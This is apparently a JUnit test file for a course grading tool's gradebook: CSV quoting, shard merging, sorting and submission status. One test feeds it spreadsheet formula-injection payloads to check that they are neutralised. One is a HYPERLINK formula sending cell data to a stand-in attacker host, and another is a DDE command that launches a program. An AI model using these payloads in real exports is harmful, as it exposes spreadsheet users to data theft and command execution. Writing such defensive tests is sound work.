package grader.report;

import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import grader.engine.Shard;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class GradebookTest {
    static Gradebook.Row row(String learner, double score) {
        return new Gradebook.Row(learner, "graded", score, 30, Map.of("fetch", new Gradebook.Cell(score, 15, "fixed-pool", "fixed-pool", List.of())), null);
    }

    @Test
    void csvQuotesWhatNeedsQuotingAndKeepsColumnsInOrder() {
        Gradebook book = new Gradebook(Gradebook.SCHEMA_VERSION, List.of("fetch"), List.of(row("o'brien, pat", 15),
                Gradebook.failed("zed", "boom: \"no\"")));
        assertEquals("learner,status,total,max,fetch,fetch_verdict,fetch_model,fetch_flaws,error\r\n"
                + "\"o'brien, pat\",graded,15,30,15,fixed-pool,fixed-pool,,\r\n"
                + "zed,grader-error,0,0,,,,,\"boom: \"\"no\"\"\"\r\n", book.csv());
    }

    @Test
    void overlappingShardsCannotBeMerged() {
        Gradebook a = new Gradebook(Gradebook.SCHEMA_VERSION, List.of("fetch"), List.of(row("ann", 1)));
        IllegalArgumentException e = assertThrows(IllegalArgumentException.class, () -> Gradebook.merge(List.of(a, a)));
        assertTrue(e.getMessage().contains("learner ann is in more than one gradebook"), e.getMessage());
    }

    @Test
    void gradebooksOfDifferentExercisesCannotBeMerged() {
        Gradebook a = new Gradebook(Gradebook.SCHEMA_VERSION, List.of("fetch"), List.of(row("ann", 1)));
        Gradebook b = new Gradebook(Gradebook.SCHEMA_VERSION, List.of("compute"), List.of(row("bo", 1)));
        assertThrows(IllegalArgumentException.class, () -> Gradebook.merge(List.of(a, b)));
    }

    @Test
    void rowsAreSortedByLearnerWhateverOrderTheyFinishIn() {
        Gradebook book = new Gradebook(Gradebook.SCHEMA_VERSION, List.of("fetch"), List.of(row("cy", 1), row("al", 2), row("bo", 3)));
        assertEquals(List.of("al", "bo", "cy"), book.rows().stream().map(Gradebook.Row::learner).toList());
    }

    @Test
    void shardsSplitRoundRobinAndCoverEveryoneOnce() {
        List<String> all = List.of("a", "b", "c", "d", "e");
        assertEquals(List.of("a", "d"), new Shard(1, 3).select(all));
        assertEquals(List.of("b", "e"), new Shard(2, 3).select(all));
        assertEquals(List.of("c"), new Shard(3, 3).select(all));
        assertEquals(new Shard(2, 3), Shard.parse("2/3"));
        assertThrows(IllegalArgumentException.class, () -> Shard.parse("4/3"));
        assertThrows(IllegalArgumentException.class, () -> Shard.parse("two"));
    }

    /** An exercise the learner left without a source file: the early verdict the grader gives it. */
    static GradeReport.ExerciseReport notSubmitted(String id) {
        return new GradeReport.ExerciseReport(id, id, 0, 15, null, "nothing submitted",
                List.of(SampleReports.stage("compile", "failed", "no sources found in src/main/java/course/" + id + "/", List.of())),
                SampleReports.verdict("not-submitted", "fail", 0, "No Java sources for " + id + ".", "why", "hint", null, List.of()),
                List.of(), List.of());
    }

    @Test
    void aFolderWithNoExerciseSourceIsNotSubmittedNotAGradedZero() {
        Gradebook.Row empty = Gradebook.row("dave", SampleReports.report(0, 30, null, notSubmitted("fetch"), notSubmitted("compute")));
        Gradebook.Row half = Gradebook.row("erin", SampleReports.report(15, 30, null, SampleReports.full("fetch"), notSubmitted("compute")));
        Gradebook.Row broken = Gradebook.row("finn", SampleReports.graderError());
        assertAll(
                () -> assertEquals("not-submitted", empty.status()),
                () -> assertEquals("graded", half.status(), "one exercise submitted is an attempt"),
                () -> assertEquals(List.of("not-submitted"), half.exercises().get("compute").flaws()),
                () -> assertEquals("grader-error", broken.status()));
    }

    @Test
    void modelAndFlawColumnsFollowTheVerdict() {
        Gradebook.Row row = Gradebook.row("gus", SampleReports.belowFullMarks());
        Gradebook.Cell fetch = row.exercises().get("fetch");
        Gradebook.Cell compute = row.exercises().get("compute");
        Gradebook book = new Gradebook(Gradebook.SCHEMA_VERSION, List.of("fetch", "compute"), List.of(row));
        assertAll(
                () -> assertEquals("virtual-threads", fetch.model()),
                () -> assertEquals(List.of(), fetch.flaws()),
                () -> assertNull(compute.model(), "no model can be seen in code that does not compile"),
                () -> assertEquals(List.of("compile-error"), compute.flaws()),
                () -> assertEquals("learner,status,total,max,fetch,fetch_verdict,fetch_model,fetch_flaws,compute,compute_verdict,"
                        + "compute_model,compute_flaws,error\r\ngus,graded,10.32,30,10.32,virtual-threads,virtual-threads,,0,compile-error,,"
                        + "compile-error,\r\n", book.csv()));
    }

    @Test
    void cellsThatASpreadsheetWouldRunAsAFormulaAreNeutralised() {
        Gradebook book = new Gradebook(Gradebook.SCHEMA_VERSION, List.of("fetch"), List.of(
                row("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", 1), row("+1", 1), row("-2", 1), row("@SUM(A1)", 1),
                row("\tx", 1), Gradebook.failed("plain", "=cmd|' /C calc'!A0")));
        List<String> learners = book.csv().lines().skip(1).map(l -> l.substring(0, l.indexOf(",graded,") < 0 ? l.indexOf(",grader-error,")
                : l.indexOf(",graded,"))).toList();
        assertAll(
                () -> assertEquals(List.of("\"'\tx\"", "\"'+1\"", "\"'-2\"", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"",
                        "\"'@SUM(A1)\"", "plain"), learners),
                () -> assertTrue(book.csv().endsWith(",\"'=cmd|' /C calc'!A0\"\r\n"), book.csv()),
                () -> assertEquals("plain", Gradebook.quote("plain")),
                () -> assertEquals("a-b", Gradebook.quote("a-b"), "only a leading character makes a formula"));
    }
}
